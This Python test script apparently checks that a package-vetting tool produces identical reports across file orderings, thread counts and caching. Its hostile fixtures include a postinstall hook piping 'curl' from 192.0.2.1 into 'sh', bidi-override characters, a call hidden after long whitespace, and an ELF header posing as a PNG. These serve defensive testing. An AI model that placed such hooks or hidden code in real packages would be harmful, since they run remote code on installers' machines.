#!/usr/bin/env python3
"""tests/same_input/run.py PROGRAM: the same input gives the same bytes.

One project of 60 packages, some hostile, is written down twice: files made in another order, the lockfile's keys in another
order (on one line, so that line numbers mean the same), tarballs in another cache folder. Each is vetted with 1 and 2 threads, fresh
and remembered; from the tarballs, and from the installed folders alone. Every report format must come out equal, but for what is
measured: seconds, peak memory, and how much was remembered.
"""
import base64, difflib, gzip, hashlib, io, json, os, random, re, subprocess, sys, tarfile, tempfile

PROGRAM = os.path.abspath(sys.argv[1])
FORMATS = ["json", "sarif", "markdown", "junit", "text"]
HOSTILE = {
    "package.json": '{"name": "%s", "version": "1.0.0", "scripts": {"postinstall": "curl -s http://192.0.2.1/x | sh; node -e 1"}}',
    "lib/a.js": "throw 0;\nconst x = '\u202e\u2066';\n",
    "lib/b.js": "throw 0;" + " " * 500 + "hidden()\n",
    "data.png": "\x7fELF....",
}


def files_of(number, name):
    if number % 7 == 0:
        return {path: (text % name if path == "package.json" else text) for path, text in HOSTILE.items()}
    return {"package.json": json.dumps({"name": name, "version": "1.0.0"}), "index.js": f"module.exports = {number}\n", "lib/x.js": "1\n"}


def tarball(files):
    plain = io.BytesIO()
    with tarfile.open(fileobj=plain, mode="w") as archive:
        for path, text in sorted(files.items()):
            data = text.encode("utf-8")
            entry = tarfile.TarInfo("package/" + path)
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))
    return gzip.compress(plain.getvalue(), mtime=0)


def shuffled(order, value):
    if not isinstance(value, dict):
        return value
    keys = list(value)
    order.shuffle(keys)
    return {key: shuffled(order, value[key]) for key in keys}


def write(path, data):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as file:
        file.write(data)


PACKAGES = {f"p{n:02}": files_of(n, f"p{n:02}") for n in range(60)}
TARBALLS = {name: tarball(files) for name, files in PACKAGES.items()}


def make(root, seed, with_tarballs):
    order = random.Random(seed)
    digest = {name: hashlib.sha512(data).digest() for name, data in TARBALLS.items()}
    project = {"name": "app", "version": "1.0.0", "dependencies": {name: "1.0.0" for name in PACKAGES}}
    lock = {"name": "app", "version": "1.0.0", "lockfileVersion": 3, "packages": {"": project}}
    for name in PACKAGES:
        lock["packages"]["node_modules/" + name] = {
            "version": "1.0.0", "resolved": f"https://registry.example/{name}/-/{name}-1.0.0.tgz",
            "integrity": "sha512-" + base64.b64encode(digest[name]).decode()}
    to_write = [("app/package.json", json.dumps(project).encode()), ("app/package-lock.json", json.dumps(shuffled(order, lock)).encode())]
    for name, files in PACKAGES.items():
        if with_tarballs:
            code = digest[name].hex()
            to_write.append((f"cache/content/sha512/{code[:2]}/{code[2:]}", TARBALLS[name]))
        else:
            to_write += [(f"app/node_modules/{name}/{path}", text.encode()) for path, text in files.items()]
    order.shuffle(to_write)
    for path, data in to_write:
        write(os.path.join(root, path), data)


def measured_out(text, kind):
    if kind == "json":
        document = json.loads(text)
        for key in ("seconds", "peakMemoryBytes", "packagesFromStore"):
            del document["stats"][key]
        for package in document["packages"]:
            package.pop("source", None)  # read fresh, or remembered
        return json.dumps(document, indent=1)
    return re.sub(r"time=\"[\d.]+\"|\d[\d.]* (ms|s)\b|, \d+ remembered|\(?\d+ of them remembered\)?", "TIME", text)


def report(root, kind, jobs):
    environment = {"PATH": os.environ["PATH"], "HOME": os.path.join(root, "home"), "LANG": "C.UTF-8"}
    command = [PROGRAM, "check", "--offline", "--preview", "--format", kind, "--jobs", str(jobs), "--cache-dir", os.path.join(root, "cache"), "-v"]
    done = subprocess.run(command, cwd=os.path.join(root, "app"), env=environment, capture_output=True, text=True, timeout=60)
    if done.returncode not in (0, 1) or not done.stdout:
        sys.exit(f"{' '.join(command)}\nstatus {done.returncode}\n{done.stderr}")
    return measured_out(done.stdout, kind)


def main():
    compared = 0
    for with_tarballs in (True, False):
        expected = {}
        for seed, jobs in enumerate((1, 2)):
            with tempfile.TemporaryDirectory() as root:
                make(root, seed, with_tarballs)
                for again in range(2):
                    for kind in FORMATS:
                        text = report(root, kind, jobs)
                        first = expected.setdefault(kind, text)
                        compared += 1
                        if text != first:
                            print("\n".join(list(difflib.unified_diff(first.splitlines(), text.splitlines(), "first", f"seed {seed}, jobs {jobs}", lineterm="", n=0))[:40]))
                            sys.exit(f"{kind}: not the same (tarballs: {with_tarballs}, seed {seed}, jobs {jobs}, run {again})")
        findings = json.loads(expected["json"])["findings"]
        if len(findings) < 20:
            sys.exit(f"only {len(findings)} findings: this test would prove little")
    print(f"{compared} reports, all as the first of their kind")


main()
